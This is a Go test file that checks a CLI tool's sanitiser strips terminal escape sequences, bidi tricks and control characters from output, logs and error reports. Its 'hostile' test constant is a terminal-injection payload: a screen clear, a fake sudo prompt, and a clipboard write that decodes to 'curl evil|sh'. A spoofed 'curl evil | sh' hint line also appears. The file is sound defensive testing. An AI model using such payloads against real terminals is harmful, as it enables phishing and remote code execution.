package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"connectrpc.com/connect"
	"github.com/spf13/cobra"
	"golang.org/x/sys/unix"
)

// hostile is what somebody writes who wants another one's terminal.
const hostile = "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsfHNo\a$ sudo password: \u009b31m\x9b1m\x7f\u202etxt.exe\u2066\u2028kogge: hint\r\x00\U000e0041"

// orders says where text has a character that a terminal may obey; -1: nowhere.
func orders(text string) int {
	if !utf8.ValidString(text) {
		return 0
	}
	return strings.IndexFunc(text, obeyed)
}

// TestClean shows what becomes of characters, and that JSON stays what it was.
func TestClean(t *testing.T) {
	for text, want := range map[string]string{
		"plain, größer, 漢字, 🚢👩‍🚀": "plain, größer, 漢字, 🚢👩‍🚀", "a\tb\n": "a\tb\n", "\x1b[31m": `\x1b[31m`, "a\rb": `a\x0db`, "\u009b": `\u009b`,
		"\x9b1m": `\x9b1m`, "\x7f": `\u007f`, "\u202e": `\u202e`, "\u2028": `\u2028`, "\ufeff": `\ufeff`, "\u200b\u200f\u061c": `\u200b\u200f\u061c`,
		"\U000e0041": `\udb40\udc41`, "": "", "\xe2\x80": `\xe2\x80`,
	} {
		if got := clean(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	if at := orders(clean(hostile)); at >= 0 {
		t.Errorf("left: %q", clean(hostile)[at:])
	}
	said := map[string]string{"text": strings.ToValidUTF8(hostile, "")}
	data, err := json.Marshal(said)
	if err != nil {
		t.Fatal(err)
	}
	var heard map[string]string
	if err := json.Unmarshal([]byte(clean(string(data))), &heard); err != nil || heard["text"] != said["text"] || orders(clean(string(data))) >= 0 {
		t.Errorf("%q, %v", heard, err)
	}
}

// FuzzClean: whatever comes, in whatever pieces, nothing of it is obeyed, and text that is
// harmless stays as it is.
func FuzzClean(f *testing.F) {
	f.Add([]byte(hostile), 3)
	f.Add([]byte("größer\n"), 4)
	f.Fuzz(func(t *testing.T, text []byte, at int) {
		var out bytes.Buffer
		h := &harmless{w: &out}
		at = min(max(at, 0), len(text))
		for _, piece := range [][]byte{text[:at], text[at:]} {
			if n, err := h.Write(piece); n != len(piece) || err != nil {
				t.Fatal(n, err)
			}
		}
		h.flush()
		if orders(out.String()) >= 0 {
			t.Errorf("%q", out.String())
		}
		if orders(string(text)) < 0 && out.String() != string(text) {
			t.Errorf("%q became %q", text, out.String())
		}
		if got := clean(string(text)); got != out.String() {
			t.Errorf("%q in one piece, %q in two", got, out.String())
		}
	})
}

// terminal is a terminal of the test's own; read returns what was written to it so far.
func terminal(t *testing.T) (tty *os.File, read func() string) {
	t.Helper()
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { master.Close() })
	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	if tty, err = os.OpenFile(filepath.Join("/dev/pts", strconv.Itoa(n)), os.O_RDWR|unix.O_NOCTTY, 0); err != nil {
		t.Fatal(err)
	}
	settings, err := unix.IoctlGetTermios(int(tty.Fd()), unix.TCGETS)
	if err != nil {
		t.Fatal(err)
	}
	settings.Oflag &^= unix.OPOST // newlines stay what they are
	if err := unix.IoctlSetTermios(int(tty.Fd()), unix.TCSETS, settings); err != nil {
		t.Fatal(err)
	}
	all := make(chan string)
	go func() {
		text, _ := io.ReadAll(master) // ends with an error once nobody has it open
		all <- string(text)
	}()
	return tty, func() string {
		tty.Close()
		return <-all
	}
}

// TestReport: what a node says of why it refuses, before it has proved anything, is shown as
// text, and no line of it looks like one of ours.
func TestReport(t *testing.T) {
	tty, read := terminal(t)
	stderr := os.Stderr
	os.Stderr = tty
	said := connect.NewError(connect.CodeFailedPrecondition, errors.New(hostile+"\nkogge: hint: curl evil | sh\n"+strings.Repeat("x", 1<<20)))
	report(hinted{nodeError("127.0.0.1:7443", said), "a hint of " + hostile})
	say("%s", hostile)
	os.Stderr = stderr
	text := read()
	if at := orders(text); at >= 0 {
		t.Errorf("%q", text[at:min(len(text), at+40)])
	}
	if strings.Contains(text, "\nkogge: hint: curl") || len(text) > 3*maxErrorLine {
		t.Errorf("%d bytes: %.400q", len(text), text)
	}
}

// TestHarmlessCommands has a command of the line print what is hostile, by each of its doors.
func TestHarmlessCommands(t *testing.T) {
	root := group("kogge", "")
	root.AddCommand(&cobra.Command{Use: "say", RunE: func(cmd *cobra.Command, _ []string) error {
		for _, w := range []io.Writer{cmd.OutOrStdout(), cmd.ErrOrStderr()} {
			for i := range len(hostile) {
				if _, err := io.WriteString(w, hostile[i:i+1]); err != nil {
					return err
				}
			}
		}
		return printJSON(cmd.OutOrStdout(), hostile)
	}})
	tame(root)
	var out, errs bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errs)
	root.SetArgs([]string{"say"})
	if err := root.Execute(); err != nil {
		t.Fatal(err)
	}
	if orders(out.String()) >= 0 || orders(errs.String()) >= 0 || errs.String() != clean(hostile) {
		t.Errorf("%q, %q", out.String(), errs.String())
	}
	everyCommand(rootCommand(), func(cmd *cobra.Command) {
		if cmd.Runnable() && cmd.RunE == nil {
			t.Errorf("%s runs by Run, which writes past harmless: use RunE", cmd.CommandPath())
		}
	})
}

// TestLogLines: logs are as they are in a file, harmless on a terminal, and as they are
// there too if somebody asks.
func TestLogLines(t *testing.T) {
	long := hostile + strings.Repeat("x", 1<<20)
	show := func(w io.Writer, all bool, line string) {
		if err := logPrinter(&harmless{w: w}, all)(line); err != nil {
			t.Error(err)
		}
	}
	var file bytes.Buffer
	if show(&file, false, long); file.String() != long+"\n" {
		t.Errorf("in a file: %.100q", file.String())
	}
	tty, read := terminal(t)
	show(tty, false, long)
	if text := read(); orders(text) >= 0 || len(text) > maxLogLine+200 || !strings.Contains(text, "bytes more)") {
		t.Errorf("on a terminal: %d bytes, %.100q", len(text), text)
	}
	tty, read = terminal(t)
	show(tty, true, hostile)
	if text := read(); text != hostile+"\n" {
		t.Errorf("all of it: %q", text)
	}
}

// TestTerminal wants that nobody prints around harmless.
func TestTerminal(t *testing.T) {
	allowed := map[string][]string{ // file: what it uses, and the reason is beside it there
		"terminal.go":          {"os.Stdout", "os.Stderr", "raw"},
		"container_exec.go":    {"os.Stdout", "os.Stderr"}, // the command's own
		"image_write.go":       {"os.Stderr"},              // a bar of ours
		"images_load.go":       {"os.Stderr"},              // the same
		"images_pull.go":       {"raw"},                    // bars among lines that are clean
		"node_update_steps.go": {"raw"},                    // the same
		"top.go":               {"os.Stdout", "raw"},       // a screen that is clean
		"vote_watch.go":        {"os.Stdout", "raw"},       // the same
		"node.go":              {"raw"},                    // logs into a file, or with --raw
		"node_support.go":      {"raw"},                    // an archive
		"node_config.go":       {"os.Stdout", "os.Stderr"}, // the editor's
		"help.go":              {"os.Stdout"},              // how wide it is
	}
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	used := map[string][]string{}
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		file, err := parser.ParseFile(token.NewFileSet(), name, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(file, func(n ast.Node) bool {
			what := ""
			switch n := n.(type) {
			case *ast.SelectorExpr:
				if x, ok := n.X.(*ast.Ident); ok {
					what = x.Name + "." + n.Sel.Name
				}
			case *ast.CallExpr:
				if f, ok := n.Fun.(*ast.Ident); ok {
					what = f.Name
				}
			}
			switch {
			case !slices.Contains([]string{"os.Stdout", "os.Stderr", "fmt.Print", "fmt.Printf", "fmt.Println", "println", "print", "raw", "log.Print", "log.Printf", "log.Println"}, what):
			case slices.Contains(allowed[name], what):
				used[name] = append(used[name], what)
			default:
				t.Errorf("%s uses %s: print with cmd.OutOrStdout(), say or errorOutput()", name, what)
			}
			return true
		})
	}
	for name, all := range allowed {
		for _, what := range all {
			if !slices.Contains(used[name], what) {
				t.Errorf("%s does not use %s any more: its line here can go", name, what)
			}
		}
	}
}
